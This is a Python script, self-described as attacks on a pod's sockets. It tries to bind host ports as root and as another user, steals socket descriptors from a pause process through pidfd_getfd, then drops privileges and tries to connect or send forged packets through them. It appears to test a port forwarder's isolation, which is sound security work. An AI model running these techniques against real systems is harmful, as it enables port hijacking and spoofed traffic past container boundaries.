"""Attacks on sockets of a pod.

  sockets.py take PORT…         tries to listen at ports of the host as well, as root and as another user
  sockets.py use PAUSE TO PORT  what the user of the forwarder can send with the sockets that it is handed, which the
                                process PAUSE has, to the port of the address TO
"""
import ctypes
import os
import socket
import sys

FORWARDER = 2147000003
PIDFD_GETFD = 438


def attempt(what, action):
    """Prints what succeeds: an answer that nobody listens has come from there."""
    try:
        action()
    except ConnectionRefusedError:
        pass
    except OSError:
        return
    print(what, flush=True)


def listen(family, kind, address, port, options):
    server = socket.socket(family, kind)
    for option in options:
        server.setsockopt(socket.SOL_SOCKET, option, 1)
    server.bind((address, port))
    if kind == socket.SOCK_STREAM:
        server.listen()


def take(port):
    addresses = [(socket.AF_INET, each) for each in ("0.0.0.0", "127.0.0.1", "192.0.2.1")]
    addresses += [(socket.AF_INET6, each) for each in ("::", "::1", "2001:db8::1", "::ffff:127.0.0.1")]
    for options in [], [socket.SO_REUSEADDR], [socket.SO_REUSEPORT], [socket.SO_REUSEADDR, socket.SO_REUSEPORT]:
        for family, address in addresses:
            for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:
                attempt(f"{os.getuid()} {kind.name} {address} {port}",
                        lambda: listen(family, kind, address, port, options))


def sockets_of(pause):
    libc = ctypes.CDLL(None, use_errno=True)
    process = os.pidfd_open(pause)
    for number in os.listdir(f"/proc/{pause}/fd"):
        if not os.readlink(f"/proc/{pause}/fd/{number}").startswith("socket:"):
            continue
        copy = libc.syscall(PIDFD_GETFD, process, int(number), 0)
        each = socket.socket(fileno=copy)
        if each.family == socket.AF_INET and each.getsockname()[0] == "0.0.0.0":
            yield each


def connect(server, to):
    server.shutdown(socket.SHUT_RD)  # it listens no more
    server.settimeout(1)
    server.connect(to)


def use(pause, to):
    sockets = list(sockets_of(pause))
    print(len(sockets), "sockets", flush=True)
    os.setgroups([])
    os.setresgid(FORWARDER, FORWARDER, FORWARDER)
    os.setresuid(FORWARDER, FORWARDER, FORWARDER)
    for each in sockets + [socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]:
        for address in to, ("127.0.0.1", to[1]):
            if each.type == socket.SOCK_DGRAM:
                attempt(f"sends to {address}", lambda: each.sendto(b"forged", address))
            else:
                attempt(f"connects to {address}", lambda: connect(each, address))


if sys.argv[1] == "take":
    for port in sys.argv[2:]:
        take(int(port))
    os.setresuid(1000, 1000, 1000)
    for port in sys.argv[2:]:
        take(int(port))
else:
    use(int(sys.argv[2]), (sys.argv[3], int(sys.argv[4])))
